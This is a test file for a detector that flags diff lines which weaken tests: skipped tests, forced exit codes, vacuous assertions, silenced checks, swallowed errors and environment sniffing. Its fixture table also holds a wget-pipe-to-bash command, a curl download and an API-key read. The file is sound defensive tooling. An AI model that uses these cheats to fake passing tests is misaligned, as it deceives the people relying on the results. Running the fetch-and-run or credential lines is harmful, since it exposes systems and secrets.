import { describe, expect, spyOn, test } from "bun:test";
import { CHEATS } from "../lib/cheats.ts";
import { stripComments } from "../lib/comments.ts";
import { findWeakening, isTestPath } from "../lib/weakened.ts";

/** A line that appears in a file, and the rule that must see it. */
const HOSTILE: readonly (readonly [path: string, line: string, rule: string])[] = [
  ["a.test.ts", "describe.only('x', () => {});", "skipped_test"],
  ["a.test.ts", "it?.skip('x')", "skipped_test"],
  ["a.test.ts", "it['only']('x')", "skipped_test"],
  ["a.test.ts", "fdescribe('x', () => {});", "skipped_test"],
  ["a.test.ts", "it[name]('x')", "skipped_test"],
  ["a.test.ts", "this.skip();", "skipped_test"],
  ["a.test.ts", "test('x', { skip: true }, () => {});", "skipped_test"],
  ["a.test.ts", "pending('later');", "skipped_test"],
  ["src/a.ts", "Bun.test.todo('x')", "skipped_test"],
  ["test_a.py", "pytestmark = pytest.mark.skip", "skipped_test"],
  ["test_a.py", "@unittest.skipUnless(sys.platform == 'linux', 'x')", "skipped_test"],
  ["test_a.py", "@unittest.expectedFailure", "skipped_test"],
  ["test_a.py", "self.skipTest('x')", "skipped_test"],
  ["conftest.py", "collect_ignore = ['test_a.py']", "skipped_test"],
  ["a_test.go", 'tb.Skipf("x")', "skipped_test"],
  ["a_test.go", "if testing.Short() {", "skipped_test"],
  ["a_test.go", "// +build ignore", "skipped_test"],
  ["src/a.rs", "#[cfg_attr(windows, ignore)]", "skipped_test"],
  ["src/a.rs", "#[cfg(not(test))]", "skipped_test"],
  ["ATest.kt", '@Ignore("x")', "skipped_test"],
  ["ATest.java", '@EnabledIfEnvironmentVariable(named = "X")', "skipped_test"],
  ["ATest.java", "@Test(enabled = false)", "skipped_test"],
  ["ATests.cs", '[Test, Ignore("x")]', "skipped_test"],
  ["ATests.cs", "Assert.Inconclusive();", "skipped_test"],
  ["a_test.cpp", 'TEST_CASE("x", "[.]") {}', "skipped_test"],
  ["a_test.cpp", 'TEST_CASE("x" * doctest::skip()) {}', "skipped_test"],
  ["a_test.cpp", 'SKIP("x");', "skipped_test"],
  ["a_test.cpp", 'QSKIP("x");', "skipped_test"],
  ["CMakeLists.txt", "set_tests_properties(a PROPERTIES DISABLED ON)", "skipped_test"],
  ["a_spec.rb", "xit 'x' do", "skipped_test"],
  ["a_spec.rb", "it 'x', skip: true do", "skipped_test"],
  ["ATest.php", "$this->markTestSkipped();", "skipped_test"],
  ["ATests.swift", 'throw XCTSkip("x")', "skipped_test"],
  ["a_test.exs", "@tag :skip", "skipped_test"],
  ["Makefile", "\tpytest -k 'not slow'", "filtered_tests"],
  ["Makefile", "\t./a_test --gtest_filter=-Queue.*", "filtered_tests"],
  ["scripts/ci.sh", "mvn -DskipTests package", "filtered_tests"],
  ["scripts/ci.sh", "jest --passWithNoTests", "filtered_tests"],
  ["config.xml", "<testFailureIgnore>true</testFailureIgnore>", "filtered_tests"],
  ["test_a.py", "@pytest.mark.flaky(reruns=5)", "filtered_tests"],
  ["a.test.ts", "jest.retryTimes(3)", "filtered_tests"],
  ["ci/build.yml", "    allow_failure: true", "ignored_failure"],
  ["scripts/ci.sh", "make test || :", "ignored_failure"],
  ["scripts/ci.sh", "make test ; true", "ignored_failure"],
  ["scripts/ci.ps1", "$ErrorActionPreference = 'SilentlyContinue'", "ignored_failure"],
  ["Makefile", ".IGNORE: test", "ignored_failure"],
  ["Makefile", "\t@-ctest", "ignored_failure"],
  ["build.js", "run('make test || true')", "ignored_failure"],
  ["a.test.ts", "process.exit(0)", "forced_success"],
  ["test_a.py", "sys.exit()", "forced_success"],
  ["src/a.ts", "process.exitCode = 0;", "forced_success"],
  ["conftest.py", "def pytest_sessionfinish(session): session.exitstatus = 0", "forced_success"],
  ["test_a.py", "assert True, 'fine'", "vacuous_assertion"],
  ["ATest.java", "assertTrue(true);", "vacuous_assertion"],
  ["a_test.cpp", "EXPECT_EQ(x, x);", "vacuous_assertion"],
  ["a.test.ts", "expect(sum).toBe(sum);", "vacuous_assertion"],
  ["src/a.h", "#define assert(x)", "vacuous_assertion"],
  ["src/a.h", "bool operator==(const A&) const { return true; }", "vacuous_assertion"],
  ["src/a.h", "#if 0", "dead_code"],
  ["a.test.ts", "if (false) {", "dead_code"],
  ["calc/a.py", "    if False:", "dead_code"],
  ["src/a.ts", "// @ts-expect-error", "silenced_check"],
  ["src/a.ts", "// biome-ignore lint: x", "silenced_check"],
  ["a.py", "x = 1  # pylint: disable=all", "silenced_check"],
  ["a.py", "x = 1  # pragma: no cover", "silenced_check"],
  ["a.go", "x := 1 // nolint:errcheck", "silenced_check"],
  ["a.rs", "#![allow(dead_code)]", "silenced_check"],
  ["A.cs", "#pragma warning disable CS8602", "silenced_check"],
  ["a.cpp", "#pragma warning(disable: 4996)", "silenced_check"],
  ["CMakeLists.txt", "add_compile_options(-w)", "silenced_check"],
  ["Makefile", "CXXFLAGS += -O2 -w", "silenced_check"],
  ["scripts/a.sh", "make test || (exit 0)", "ignored_failure"],
  ["Makefile", "\tASAN_OPTIONS=detect_leaks=0 ctest", "silenced_check"],
  ["compiler.json", '  "strict": false,', "silenced_check"],
  ["src/a.ts", "const key = process.env.ANTHROPIC_API_KEY;", "credentials"],
  ["src/a.ts", "console.log('::set-output name=x::y')", "credentials"],
  ["scripts/a.sh", "wget -qO- https://x.example/i | bash", "credentials"],
  ["Makefile", "\tcurl -o tool https://x.example/tool", "network"],
  ["a.py", "os.system('ls')", "network"],
  ["a.py", "if os.environ.get('CI'):", "knows_the_test"],
  ["a.py", "    except Exception: pass", "swallowed_error"],
  ["src/a.ts", "} catch {}", "swallowed_error"],
];

describe("findWeakening() sees a line that appears", () => {
  test.each(HOSTILE)("%s: %s", (path, line, rule) => {
    const found = findWeakening({ path, before: "x\n", after: `x\n${line}\n` });
    expect(found.map((one) => one.rule)).toContain(rule);
  });

  test("with every row of the table: none is there for nothing", () => {
    const unseen = CHEATS.filter(
      ({ pattern, where, tests }) =>
        !HOSTILE.some(
          ([path, line]) =>
            pattern.test(line.replace(/\[\s*'(\w+)'\s*\]/, ".$1").replace("?.", ".")) &&
            (where?.test(path) ?? true) &&
            (tests !== true || isTestPath(path)),
        ),
    );
    expect(unseen.map(({ rule, pattern }) => `${rule}: ${pattern.source.slice(0, 60)}`)).toEqual([]);
  });

  test("and leaves alone a line that is only touched beside a suppression", () => {
    const before = "x = compute(1)  # noqa\n";
    expect(findWeakening({ path: "a.py", before, after: before.replace("1", "2") })).toEqual([]);
  });
});

describe("findWeakening() leaves alone", () => {
  test.each([
    ["src/a.ts", "const found = /x/.test(text) || fallback;"],
    ["src/a.ts", "for (const item of items.skip(2)) use(item);"],
    ["src/a.ts", "  return options.only ?? true;"],
    ["src/a.ts", "model.fit(data);"],
    ["src/a.py", "model.fit(data)"],
    ["src/a.py", "it = iter(values)"],
    ["src/a.cpp", "for (auto it = begin; it != end; ++it) {}"],
    ["src/a.cpp", "std::exit(code);"],
    ["src/a.cpp", "#ifdef __APPLE__"],
    ["src/a.cpp", 'const char* kEmpty = "";'],
    ["src/a.go", "if err != nil { return err }"],
    ["src/a.rs", "#[cfg(windows)]"],
    ["src/a.rs", "let half = value.checked_div(2).unwrap_or(0);"],
    ["src/A.java", 'if (name == null) return "";'],
    ["src/A.cs", "if (gross < 0) throw new ArgumentOutOfRangeException(nameof(gross));"],
    ["CMakeLists.txt", "target_link_libraries(a PRIVATE m)"],
    ["Makefile", "\trm -rf build"],
    ["Makefile", "\tmake -k all"],
    ["scripts/a.sh", "grep -w foo file"],
    ["scripts/a.sh", "test -f x || (echo missing; exit 1)"],
    ["src/a.rb", "rescue KeyError => error"],
    ["src/a.ts", "// it's broken and isn't nice"],
    ["scripts/a.sh", 'cd "$(dirname "$0")" || exit 1'],
    ["src/a.ts", "try { parse(); } catch (error) { throw new Error('bad', { cause: error }); }"],
    ["docs/a.md", "Tests may be skipped with `it.skip`? No: see the guard."],
  ])("%s: %s", (path, line) => {
    expect(findWeakening({ path, before: "x\n", after: `x\n${line}\n` })).toEqual([]);
  });
});

test("findWeakening() takes an apostrophe in prose for no test's name", () => {
  const before = "// it's broken and isn't nice\n";
  expect(findWeakening({ path: "src/a.ts", before, after: "// repaired\n" })).toEqual([]);
});

test.each([
  ["src/sum.test.ts", true],
  ["tests/helpers.ts", true],
  ["test_mean.py", true],
  ["pkg/clamp_test.go", true],
  ["app/src/test/java/ATest.java", true],
  ["lib.Tests/A.cs", true],
  ["spec/a_spec.rb", true],
  ["src/__snapshots__/a.snap", true],
  ["src/contest.ts", false],
  ["src/latest/a.ts", false],
  ["src/testing_room.ts", false],
  ["src/inspect.py", false],
  ["attestation/a.go", false],
])("isTestPath(%p) is %p", (path, expected) => {
  expect(isTestPath(path)).toBe(expected);
});

test.each([
  ["a.ts", "a // b\nc /* d\ne */ f", "a \nc \n f"],
  ["a.ts", 'x = "http://y"; // z', 'x = "http://y"; '],
  ["a.ts", "x = `/*`; y", "x = `/*`; y"],
  ["a.py", 'def f():\n    """doc\n    """\n    x = "#"  # y', 'def f():\n    \n\n    x = "#"  '],
  ["a.py", 'x = """text"""', 'x = """text"""'],
  ["a.rs", "fn f<'a>(x: &'a str) {} // y", "fn f<'a>(x: &'a str) {} "],
  ["Makefile", "a: # b\n\tc", "a: \n\tc"],
  ["a.unknown", "a // b # c", "a // b # c"],
])("stripComments(%p) of %p", (path, text, bare) => {
  expect(stripComments(path, text)).toBe(bare);
});

test("findWeakening() compares a text once, not once a cheat", () => {
  const before = Array.from({ length: 200 }, (_, at) => `export const value${at} = ${at};`).join("\n");
  const split = spyOn(String.prototype, "split");
  try {
    expect(findWeakening({ path: "src/table.ts", before, after: before.replace("= 3;", "= 4;") })).toEqual([]);
    // As it is and without comments, to compare the lines and to count the assertions: not for each of the cheats.
    expect(split.mock.contexts.filter((text) => String(text).length === before.length).length).toBeLessThanOrEqual(8);
  } finally {
    split.mockRestore();
  }
});
